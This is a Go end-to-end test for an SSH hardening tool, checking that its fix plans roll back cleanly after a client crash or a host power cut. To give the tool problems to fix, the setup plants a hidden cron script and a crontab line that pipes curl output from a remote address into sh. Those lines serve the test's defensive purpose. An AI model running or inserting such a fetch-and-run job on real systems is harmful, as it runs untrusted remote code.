//go:build linux

package e2e_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/postern-ssh/postern/e2e"
	"github.com/postern-ssh/postern/fix"
)

// TestFixEveryKindComesBack: a plan with a change of each kind, cut short after each of
// them and in the midst of taking back, by a laptop that dies and by a power cut: the
// host gives every file, table, mode, account and moved file back by itself. In the
// short form a third of the points, another one each day.
func TestFixEveryKindComesBack(t *testing.T) {
	e2e.NeedHosts(t)
	run := newPostern(t)
	run.home = t.TempDir()
	h := &crashHost{Host: e2e.Start(t, e2e.Spec{Release: e2e.Bookworm, Init: e2e.Tiny, Accounts: true, DiskMB: 256, Setup: `
rm /etc/ssh/ssh_host_ed25519_key /etc/ssh/ssh_host_ed25519_key.pub
mkdir -p /usr/local/lib/.x && printf '#!/bin/sh\n' >/usr/local/lib/.x/run && chmod 755 /usr/local/lib/.x/run
printf '*/3 * * * * root /usr/local/lib/.x/run\n' >/etc/cron.d/evil`})}
	admin := h.Accounts().Admin
	j := newFixJob(t, h.Host, admin)
	known, err := os.ReadFile(j.Known)
	if err != nil {
		t.Fatal(err)
	}
	var without []string
	for line := range strings.Lines(string(known)) {
		if !strings.Contains(line, "ssh-ed25519 ") {
			without = append(without, line)
		}
	}
	if err := os.WriteFile(j.Known, []byte(strings.Join(without, "")), 0o600); err != nil {
		t.Fatal(err)
	}
	run.to(j)
	h.Run("printf '5 4 * * * true\\n17 3 * * * curl -s http://198.51.100.7/x.sh | sh\\n' | crontab -u plain -; chmod 777 /home/locked/.ssh; chmod 664 /etc/pam.d/sshd; touch -d '2 days ago' /etc/ssh/sshd_config; kill -HUP $(cat /run/sshd.pid); sleep 1.5; sync")
	plain := ssh.FingerprintSHA256(h.Accounts().Plain.Signer.PublicKey())
	look := func() fix.Host { // anew for each case: what was given back is another file, and a plan is bound to those that it saw
		t.Helper()
		// What was given back is newer than what sshd has read, if of the same bytes.
		h.Run("sleep 1.1; kill -HUP $(cat /run/sshd.pid); sleep 1")
		run.want(t, 1, "fix", "plan", "--save-plan", "all.plan", "--quarantine", "/etc/cron.d/evil:1", "--revoke-key", plain, "--lock-account", "typist",
			"--only", "no-password-login", "--only", "ed25519-host-key", "--only", "fetch-and-run-jobs", "--only", "authorized-keys-files", "--only", "pam-files")
		plan := savedPlan(t, filepath.Join(run.home, "all.plan"))
		kinds := map[fix.Kind]bool{}
		for _, c := range plan.Hosts[0].Changes {
			kinds[c.Kind] = true
		}
		if len(kinds) != 7 {
			t.Fatalf("the plan has the kinds %v", kinds)
		}
		return plan.Hosts[0]
	}
	j.Options.Deadline = time.Minute
	stands := func() string {
		out, errs, _ := h.Exec(`crontab -u plain -l | grep -v '^# (\|^# DO NOT'; getent shadow typist; stat -c '%n %a %U:%G' /etc/ssh/* /etc/cron.d/* /usr/local/lib/.x/* /home/plain/.ssh/* /home/locked/.ssh /etc/pam.d/sshd /var/spool/cron/crontabs/*
cat /etc/ssh/sshd_config /etc/cron.d/evil /home/plain/.ssh/authorized_keys | sha256sum; find /etc /var/spool /home /usr/local -name '.postern*' -o -name 'postern-rollback'`)
		return out + errs
	}
	before := stands()
	n := len(look().Changes)
	for i, point := range cutPoints(n) {
		if !whole() && i%3 != turn(t)%3 {
			continue
		}
		power := i%2 == 1 || strings.HasPrefix(point, "restored")
		if !h.cutAt(t, j, look(), point, power) {
			continue
		}
		if after := stands(); after != before {
			t.Fatalf("%s, power cut %v: %s\n%s", point, power, difference(before, after), after)
		}
		if err := h.becomesRoot(t, admin); err != nil {
			t.Fatalf("%s: %v", point, err)
		}
	}
}

func savedPlan(t *testing.T, name string) *fix.Plan {
	t.Helper()
	f, err := os.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	plan, err := fix.Read(f)
	if err != nil {
		t.Fatal(err)
	}
	return plan
}

// cutPoints are the moments of a run of n changes at which it is cut short.
func cutPoints(n int) (points []string) {
	for i := range n {
		points = append(points, fmt.Sprintf("changed%d", i+1))
	}
	points = append(points, "hup")
	for i := range n {
		points = append(points, fmt.Sprintf("restored%d", i+1))
	}
	return points
}

// cutAt makes a plan true up to a point, where the laptop dies or the host loses power,
// and waits until the host has decided; false: it was not reached.
func (h *crashHost) cutAt(t *testing.T, j *fixJob, plan fix.Host, point string, power bool) bool {
	t.Helper()
	j.Plan, j.FailAt, j.Options.HostFail = plan, "host:"+point, point
	if strings.HasPrefix(point, "restored") {
		// The laptop takes it back, and the host loses power while it does.
		j.Plan.Checks, j.Plan.Shut = nil, []string{"publickey"}
	}
	if a, killed := j.run(t); !killed {
		t.Errorf("%s was not reached: %+v", point, a)
		return false
	}
	if power {
		h.PowerCut()
		h.Boot()
	} else {
		h.hasten()
	}
	for deadline := time.Now().Add(time.Minute); h.open(); time.Sleep(200 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatalf("%s: the host does not decide", point)
		}
	}
	return true
}
